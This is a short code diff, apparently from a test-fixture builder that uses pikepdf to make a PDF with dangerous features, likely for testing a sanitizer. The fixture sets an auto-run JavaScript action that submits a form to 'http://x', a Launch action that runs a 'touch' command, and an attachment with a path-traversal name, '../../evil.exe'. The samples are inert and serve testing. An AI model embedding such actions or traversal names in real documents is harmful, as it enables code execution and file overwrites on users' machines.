@@ -191,7 +191,7 @@ def scripts_and_files() -> bytes:
         pdf.Root.OpenAction = pikepdf.Dictionary(
             S=pikepdf.Name.JavaScript, JS="app.alert('x'); this.submitForm('http://x');"
         )
-        page.AA = pikepdf.Dictionary(O=pikepdf.Dictionary(S=pikepdf.Name.Launch, F="touch /tmp/launched"))
+        page.AA = pikepdf.Dictionary(O=pikepdf.Dictionary(S=pikepdf.Name.Launch, F="touch launched"))
         pdf.attachments["../../evil.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ", filename="../../evil.exe")
 
     return _with_page(add)
